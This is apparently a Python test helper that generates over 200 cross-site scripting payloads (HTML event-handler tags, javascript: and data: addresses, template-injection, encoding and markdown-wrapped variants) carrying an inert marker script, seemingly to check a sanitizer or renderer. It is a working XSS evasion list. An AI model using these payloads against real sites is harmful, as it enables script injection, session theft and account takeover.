"""Texts that would run a script, if a page ever took one of them for HTML, an address, a style or a template."""

from collections.abc import Iterator
from typing import Final

_CALL: Final = "globalThis.__ran=1"

_WHOLE: Final = (
    "<script>{js}</script>",
    "<SCRIPT SRC=data:text/javascript,{js}></SCRIPT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script\x09type=module>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img src=x:x onerror={js}//",
    "<IMG SRC=`x` ONERROR=`{js}`>",
    "<img/src=x/onerror={js}>",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to={js}>",
    "<math><mi xlink:href='javascript:{js}'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe onload={js}></iframe>",
    "<object data='javascript:{js}'></object>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<embed src='javascript:{js}'>",
    "<embed src='data:image/svg+xml,<svg onload={js}>'>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<marquee onstart={js}>x</marquee>",
    "<div style='animation-name:x' onanimationstart={js}>x</div>",
    "<style>@keyframes x{{}}</style><b style='animation:x' onanimationend={js}>x</b>",
    "<style>@import 'javascript:{js}';</style>",
    "<link rel=stylesheet href='javascript:{js}'>",
    "<link rel=import href='data:text/html,<script>{js}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href='javascript:{js}//'>",
    "<form action='javascript:{js}'><button>x</button></form>",
    "<form><button formaction='javascript:{js}'>x</button></form>",
    "<a href='javascript:{js}'>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<xss contenteditable autofocus onfocus={js}>x</xss>",
    "<x onclick={js} tabindex=1 autofocus>x</x>",
    "<dialog open onclose={js}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle={js}>x</div>",
    "<title><img src=x onerror={js}></title>",
    "<plaintext/onmouseover={js}>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><img src=x onerror={js}>",
    "<k-shell onclick={js}></k-shell>",
    "<k-message data-id='x' onclick={js}></k-message>",
)
_ADDRESSES: Final = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "javascript://example.org/%0a{js}",
    "javascript:alert`1`//https://example.org",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLl9fcmFuPTE8L3NjcmlwdD4=",
    "vbscript:{js}",
    "blob:https://example.org/{js}",
    "https://example.org/<script>{js}</script>",
    "https://example.org/\"onmouseover='{js}'",
    "https://example.org/'onmouseover={js}//",
    "https://javascript:{js}@example.org/",
    "https://example.org/?x=javascript:{js}",
    "http://[::1]/#<img src=x onerror={js}>",
)
_WRAPS: Final = (
    "{it}",
    "**{it}**",
    "`{it}`",
    "> {it}",
    "- {it}",
    "```\n{it}\n```",
    "[x]({it})",
    "![x]({it})",
    "@{it}",
    "\"'>{it}",
)
_TEMPLATES: Final = (
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{% debug %}}{js}",
    "__proto__[x]={js}",
    "constructor.prototype.x={js}",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "<script>{js}</script>",
    "＜script＞{js}＜/script＞",
    "'-{js}-'",
    '";{js};//',
    "`+{js}+`",
    "*/{js}/*",
    "</script><script>{js}</script>",
    "</textarea><img src=x onerror={js}>",
    "</title><img src=x onerror={js}>",
    "\u202e<img src=x onerror={js}>",
)


def payloads() -> list[str]:
    """Returns at least 200 different texts."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for text in (*_WHOLE, *_TEMPLATES):
        yield text.format(js=_CALL)
    for text in _ADDRESSES:
        for wrap in _WRAPS:
            yield wrap.format(it=text.format(js=_CALL))
